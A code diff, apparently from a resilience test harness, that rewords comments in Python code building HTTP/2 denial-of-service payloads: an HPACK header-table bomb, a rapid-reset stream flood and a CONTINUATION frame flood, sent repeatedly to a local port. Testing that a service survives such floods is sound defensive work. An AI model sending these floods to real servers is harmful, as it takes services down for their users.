@@ -23,7 +23,7 @@ PRIORITY, CONTINUATION = 2, 9
 # :method POST, :scheme https and :path / of the static table.
 REQUEST = b"\x83\x87\x84"
 OPEN = frame(HEADERS, END_HEADERS, 1, REQUEST)
-# A field of 4,000 bytes that is kept in the table, and then named thousands of times at a byte each.
+# A field of 4,000 bytes that enters the table, followed by thousands of references to it of one byte each.
 BOMB = REQUEST + b"\x40\x01x\x7f\xa1\x1e" + b"a" * 4000 + b"\xbe" * 12_000
 CANCEL = b"\x00\x00\x00\x08"
 
@@ -33,7 +33,7 @@ def resets(wave):
     return b"".join(frame(HEADERS, END_HEADERS, s, REQUEST) + frame(RESET, 0, s, CANCEL) for s in streams)
 
 
-# What is sent once, and what again and again.
+# For each attack: the bytes to send once, and the bytes to send repeatedly.
 FLOODS = {
     "rapid reset": (b"", resets),
     "CONTINUATION": (frame(HEADERS, 0, 1, REQUEST), lambda _: frame(CONTINUATION, 0, 1) * 50),
@@ -53,7 +53,7 @@ def attack(name, port, ending, connects, sent):
         try:
             connection = Connection(port)
             connects.value += 1
-            # The service no longer reads what it has cut off; an attacker in a hurry does not wait for the end.
+            # The service reads no more from a connection that it has ended, and an attacker does not wait for its end.
             connection.socket.settimeout(0.05)
             if wave is not None:
                 connection.socket.sendall(opening)
@@ -65,7 +65,7 @@ def attack(name, port, ending, connects, sent):
                     number += 1
             connection.close()
         except OSError:
-            # It was cut off, which is what should happen.
+            # The service ended the connection, as it should.
             pass
 
 
